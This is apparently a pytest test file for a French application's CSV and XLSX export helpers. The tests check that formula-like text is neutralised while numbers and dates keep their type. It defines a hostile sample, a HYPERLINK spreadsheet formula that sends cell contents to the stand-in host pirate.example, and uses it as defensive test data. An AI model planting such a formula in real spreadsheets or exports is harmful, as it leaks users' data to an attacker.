"""Exports never carry a live formula: a text a spreadsheet would read as a formula (« =… »,
« +… », « -… », « @… », a leading tab or carriage return) is neutralised in CSV with a leading
apostrophe (OWASP) and written as a text cell in .xlsx; numbers and dates stay numbers and
dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from effectif.core.exporting import (
    Column,
    append_row,
    csv_bytes,
    export_response,
    new_workbook,
    put,
    safe_csv_text,
    safe_xlsx_value,
    workbook_bytes,
    xlsx_bytes,
)

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&C2&D2,"Justificatif")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Déjeuner client", "Déjeuner client"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-5.00"), "-5,00"),
        (-5, "-5"),
        (-2.5, "-2.5"),
        (dt.date(2026, 3, 2), "02/03/2026"),
        (True, "oui"),
        (["=1+1", "b"], "'=1+1, b"),
    ],
)
def test_csv_text_neutralises_formulas_but_keeps_numbers(value, expected) -> None:
    assert safe_csv_text(value) == expected


def test_xlsx_values_keep_their_type() -> None:
    assert safe_xlsx_value(Decimal("-5.50")) == -5.5
    assert safe_xlsx_value(-5) == -5
    assert safe_xlsx_value(dt.date(2026, 3, 2)) == dt.date(2026, 3, 2)
    assert safe_xlsx_value("-5") == "-5"
    assert safe_xlsx_value("nom\x00\x0bcaché") == "nomcaché"  # characters .xlsx cannot hold


def _cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_the_list_export_writes_hostile_text_as_text() -> None:
    columns = [
        Column("Titre", lambda r: r[0]),
        Column("Montant", lambda r: r[1]),
        Column("Le", lambda r: r[2]),
    ]
    rows = [(HOSTILE, Decimal("-12.30"), dt.date(2026, 1, 5)), ("-5", Decimal("4"), None)]
    cells = _cells(xlsx_bytes(columns, rows, "Notes"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_coordinate = {c.coordinate: c for c in cells}
    assert by_coordinate["A2"].value == HOSTILE
    assert by_coordinate["A2"].data_type == "s"
    assert by_coordinate["B2"].value == -12.3
    assert by_coordinate["B2"].data_type == "n"
    assert by_coordinate["A3"].value == "-5"
    assert by_coordinate["A3"].data_type == "s"


def test_the_list_export_as_csv_neutralises_each_text_cell() -> None:
    response = export_response(
        export_format="csv",
        columns=[Column("Titre", lambda r: r[0]), Column("Montant", lambda r: r[1])],
        rows=[(HOSTILE, Decimal("-12.30"))],
        name="notes",
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["'" + HOSTILE, "-12,30"]


def test_hand_made_sheets_go_through_the_same_cells() -> None:
    workbook = new_workbook()
    sheet = workbook.active
    put(sheet, 1, 1, HOSTILE)
    put(sheet, 1, 2, Decimal("-1"))
    append_row(sheet, ["@x", 3, dt.date(2026, 1, 1)])
    write_only = new_workbook(write_only=True)
    other = write_only.create_sheet("Liste")
    append_row(other, ["+1", Decimal("2.5")])
    cells = _cells(workbook_bytes(workbook))
    assert [(c.value, c.data_type) for c in cells if c.value is not None] == [
        (HOSTILE, "s"),
        (-1, "n"),
        ("@x", "s"),
        (3, "n"),
        (dt.datetime.combine(dt.date(2026, 1, 1), dt.time()), "d"),  # no time zone in a cell
    ]
    assert [(c.value, c.data_type) for c in _cells(workbook_bytes(write_only))] == [
        ("+1", "s"),
        (2.5, "n"),
    ]


def test_csv_bytes_is_the_french_office_format() -> None:
    data = csv_bytes([["Nom", "Montant"], ["=1+1", Decimal("3.5")]])
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig") == "Nom;Montant\r\n'=1+1;3,5\r\n"
